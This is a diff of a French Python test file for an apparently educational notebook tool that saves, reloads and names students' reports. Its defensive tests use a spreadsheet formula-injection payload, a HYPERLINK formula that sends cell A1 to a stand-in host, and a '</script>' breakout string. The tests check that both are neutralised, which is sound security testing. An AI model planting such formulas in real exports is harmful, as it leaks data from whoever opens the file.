@@ -12,6 +12,7 @@ import travailler_ensemble as labo
 from travailler_ensemble import corpus
 from travailler_ensemble.affichage.pages import compte_rendu
 from travailler_ensemble.carnet import Carnet
+from travailler_ensemble.classe import copie
 from travailler_ensemble.corpus import tableur
 from travailler_ensemble.ecriture.page import Page
 
@@ -101,18 +102,65 @@ def test_l_accueil_suit_l_avancement():
     assert "En cours, 1 sur 4" in page
 
 
-def test_le_compte_rendu_se_telecharge_et_se_range(tmp_path):
-    assert "Rien à rendre" in labo.compte_rendu()._repr_html_()
+def ranger_la_copie(vue):
+    vue.traiter({"geste": "ranger", "demande": 1})
+    return vue.etat
+
+
+def test_le_compte_rendu_est_a_jour_se_telecharge_et_se_range(tmp_path):
+    vue = labo.compte_rendu()
+    assert vue.etat["vide"] and "Rien à rendre" in vue.etat["dit"]
     labo.tri("formes").traiter({"geste": "ranger", "carte": "sit-jeudis-halte", "case": "forme-partenariat", "vue": "v", "n": 1})
     labo.tri("formes").traiter({"geste": "ranger", "carte": "sit-coin-calme", "case": "forme-consultation", "vue": "v", "n": 2})
     labo.tri("formes").traiter({"geste": "ranger", "carte": "sit-jeudis-halte", "case": "forme-reseau", "vue": "v", "n": 3})
-    page = labo.compte_rendu()._repr_html_()
-    assert page.count("download=") == 2
+    etat = ranger_la_copie(vue)
+    assert etat["dit"].startswith("À jour à") and "«\u00a0mes-reponses\u00a0»" in etat["dit"]
     dossier = tmp_path / "mes-reponses"
-    rendu = (dossier / "mon-compte-rendu.html").read_text(encoding="utf-8")
+    rendu = (dossier / f"{etat['nom']}.html").read_text(encoding="utf-8")
+    assert etat["nom"].startswith("labo-02-20") and rendu == etat["page"]
     assert "Les jeudis de la halte" in rendu and "Partenariat" in rendu and "Réseau" in rendu
-    lignes = (dossier / "mon-compte-rendu.csv").read_text(encoding="utf-8-sig").splitlines()
-    assert any(x.startswith("formes;") and ";Partenariat;Réseau;" in x for x in lignes)
+    lignes = (dossier / f"{etat['nom']}.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert any(";02;labo;formes;" in x and ";Partenariat;Réseau;" in x for x in lignes)
+
+
+def test_la_copie_s_ecrit_dans_le_carnet_quand_on_le_demande_et_pas_avant(monkeypatch):
+    mises = []
+    monkeypatch.setattr("IPython.display.display", lambda x, **options: mises.append((x._repr_html_(), options)))
+    labo.question("question-accord").traiter({"geste": "repondre", "champ": "texte", "valeur": "Un </script> accord.", "vue": "v", "n": 1})
+    vue = labo.compte_rendu("10")
+    [(avant, place)] = mises
+    assert avant == "" and "accord" not in str(vue._repr_mimebundle_())
+    vue.traiter({"geste": "ecrire", "demande": 1})
+    apres, encore = mises[-1]
+    assert encore == {**place, "update": True} and "<script" not in apres.split('<script type="application/json" class="te-copie">')[0]
+    (relue,) = copie.lire(apres)
+    assert (relue.labo, relue.usage) == ("10", "labo")
+    assert relue.activites["question-accord"] == (copie.Donnee("texte", "Un </script> accord.", "Un </script> accord."),)
+    labo.compte_rendu("10")
+    assert mises[-1][0] == apres, "relancer la cellule garde ce qui est écrit"
+
+
+@pytest.mark.parametrize(
+    ("page", "dit"),
+    [
+        ("<p>rien</p>", "n’est pas un compte rendu"),
+        ('<script type="application/json" class="te-copie">{"v":</script>', "abîmé"),
+        ('<script type="application/json" class="te-copie">{"travailler-ensemble":"copie","v":1}</script>', "abîmé"),
+        ('<script type="application/json" class="te-copie">{"travailler-ensemble":"copie","v":9}</script>', "plus récente"),
+        ('<script type="application/json" class="te-copie">[]</script>', "n’est pas un compte rendu"),
+    ],
+)
+def test_une_copie_qui_ne_se_lit_pas_dit_pourquoi(page, dit):
+    with pytest.raises(ValueError, match=dit):
+        copie.lire(page)
+
+
+def test_le_code_de_groupe_va_dans_la_copie_et_dans_son_nom():
+    labo.tri("formes").traiter({"geste": "ranger", "carte": "sit-jeudis-halte", "case": "forme-partenariat", "vue": "v", "n": 1})
+    vue = labo.compte_rendu("02")
+    vue.traiter({"geste": "groupe", "valeur": " ES2-B <é> ", "demande": 1})
+    assert vue.etat["groupe"] == "ES2-B é" and "groupe ES2-B é" in vue.etat["page"] and vue.etat["nom"].endswith("-ES2-B")
+    assert copie.lire(vue.etat["page"])[0].groupe == "ES2-B é"
 
 
 @pytest.mark.parametrize("debut", ["=", "+", "-", "@", "\t", "'=", "'"])
@@ -120,8 +168,7 @@ def test_une_reponse_n_est_pas_une_formule_dans_le_tableur_de_qui_la_lit(tmp_pat
     texte = f'{debut}HYPERLINK("http://exemple.test/?v="&A1;"Ouvrir ma copie")'
     libre = next(q["id"] for q in corpus.lire().lignes("questions") if q["genre"] == "libre")
     labo.question(libre).traiter({"geste": "repondre", "champ": "texte", "valeur": texte, "vue": "v", "n": 1})
-    labo.compte_rendu()
-    table = tmp_path / "mes-reponses" / "mon-compte-rendu.csv"
+    table = tmp_path / "mes-reponses" / f"{ranger_la_copie(labo.compte_rendu())['nom']}.csv"
     lues = [cases for _, cases in tableur.enregistrements("x", table, compte_rendu.COLONNES, brutes=True)]
     assert lues and not [case for cases in lues for case in cases if case.startswith(("=", "+", "-", "@", "\t", "\r"))]
     assert texte.strip() in {tableur.valeur(case).strip() for case in lues[0]}
@@ -135,8 +182,8 @@ def test_un_compte_rendu_qui_ne_s_ecrit_pas_reste_telechargeable(monkeypatch):
         raise OSError(28, "plein")
 
     monkeypatch.setattr(Path, "replace", plein)
-    page = labo.compte_rendu()._repr_html_()
-    assert "n’a pas pu être écrit" in page and page.count("download=") == 2
+    etat = ranger_la_copie(labo.compte_rendu())
+    assert "n’a pas pu la garder" in etat["dit"] and etat["page"] and etat["table"]
 
 
 def test_la_verification_voit_un_disque_qui_refuse(monkeypatch):
